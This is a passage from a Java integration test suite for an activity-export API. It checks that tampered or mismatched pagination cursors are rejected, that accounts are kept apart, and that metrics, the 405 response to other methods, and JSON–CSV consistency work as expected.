            "{\"v\":1,\"k\":[\"2026-11-21\",\"alice\"],\"c\":null}",
            "{\"v\":1,\"k\":\"x\",\"c\":\"x\"}",
            "[1,2,3]",
            "null",
            "1",
            "\"x\"",
            "{}",
            "{\"v\":1}")) {
      bad.add(
          Base64.getUrlEncoder()
              .withoutPadding()
              .encodeToString(edit.getBytes(StandardCharsets.UTF_8)));
    }
    bad.add(Base64.getUrlEncoder().encodeToString(new byte[] {(byte) 0xff, (byte) 0xfe, 0, 1}));
    for (String candidate : bad) {
      if (candidate.equals(cursor)) {
        continue;
      }
      HttpResponse<String> response = export(acmeKey, query + "&limit=2&cursor=" + enc(candidate));
      if (response.statusCode() == 200) {
        // A few one-character edits survive base64 (unused low bits) and decode to the same cursor.
        assertEquals(
            EXACT.readTree(export(acmeKey, query + "&limit=2&cursor=" + enc(cursor)).body()),
            EXACT.readTree(response.body()),
            candidate);
        continue;
      }
      assertEquals(ExportCursor.MESSAGE, error(response, 400).get("message").asText(), candidate);
    }
    // The same cursor with other parameters.
    for (String other :
        List.of(
            RANGE + "&group_by=user,date",
            "from=2026-11-02&to=" + D1 + "&group_by=date,user",
            "from=2026-11-01&to=" + D2 + "&group_by=date,user",
            query + "&user_id=alice",
            query + "&api_key_hash=" + A1,
            RANGE + "&group_by=date,user,endpoint",
            RANGE + "&group_by=user")) {
      if (other.equals(RANGE + "&group_by=user,date")) {
        // The same grouping spelled in another order is the same walk.
        assertEquals(200, export(acmeKey, other + "&cursor=" + cursor).statusCode());
        continue;
      }
      assertEquals(
          ExportCursor.MESSAGE,
          error(export(acmeKey, other + "&cursor=" + cursor), 400).get("message").asText(),
          other);
    }
    // Another account's key with acme's cursor: the same parameters, so only beta's rows after that
    // position.
    JsonNode beta = json(export(betaKey, query + "&cursor=" + cursor));
    assertFalse(beta.toString().contains("carol"));
  }

  // ---- metrics
  // ------------------------------------------------------------------------------------------

  @Test
  void metricsTimeTheClickHouseCallsAndTheRoute() throws Exception {
    export(acmeKey, RANGE + "&api_key_hash=" + A1);
    export(acmeKey, RANGE + "&format=csv");
    // Once the cache has polled, the activity answer loads the account's days (the SQL path's
    // "activity" timer is
    // CompletedDayCacheIntegrationTest's).
    QueryTestEnv.awaitFreshPoll(server);
    get("Bearer " + acmeKey, ActivityRouter.ROUTE, "");
    String metrics = get(null, "/metrics", "").body();
    for (String query : List.of("export", "key_lookup", "cache_poll", "cache_load")) {
      assertTrue(
          metrics.contains("activity_clickhouse_query_seconds_count{query=\"" + query + "\"}"),
          metrics);
    }
    assertTrue(
        metrics.contains(
            "http_server_requests_seconds_count{route=\"/api/v1/activity/export\",status=\"200\"}"),
        metrics);
  }

  @Test
  void otherMethodsAre405() throws Exception {
    HttpResponse<String> post =
        HTTP.send(
            HttpRequest.newBuilder(
                    URI.create(
                        "http://127.0.0.1:"
                            + server.port()
                            + ActivityRouter.EXPORT_ROUTE
                            + "?"
                            + RANGE))
                .header("Authorization", "Bearer " + acmeKey)
                .POST(HttpRequest.BodyPublishers.ofString("{}"))
                .build(),
            HttpResponse.BodyHandlers.ofString());
    error(post, 405);
  }

  @Test
  void sameNumbersInJsonAndCsvForEveryRow() throws Exception {
    String query = RANGE + "&group_by=date,user,api_key,endpoint";
    List<JsonNode> rows = walk(acmeKey, query, 1000);
    List<List<String>> csv = csv(acmeKey, query);
    assertEquals(rows.size() + 1, csv.size());
    for (int i = 0; i < rows.size(); i++) {
      JsonNode row = rows.get(i);
      List<String> record = csv.get(i + 1);
      List<String> header = csv.get(0);
      for (String total : ExportRow.TOTALS) {
        String cell = record.get(header.indexOf(total));
        assertEquals(0, new BigDecimal(cell).compareTo(row.get(total).decimalValue()), total);
        assertEquals(row.get(total).decimalValue().toPlainString(), cell, total);
        assertFalse(cell.contains("E") || cell.contains("e"), cell);
      }
    }
    if (rows.isEmpty()) {
      fail("fixture has rows");
    }
  }
}
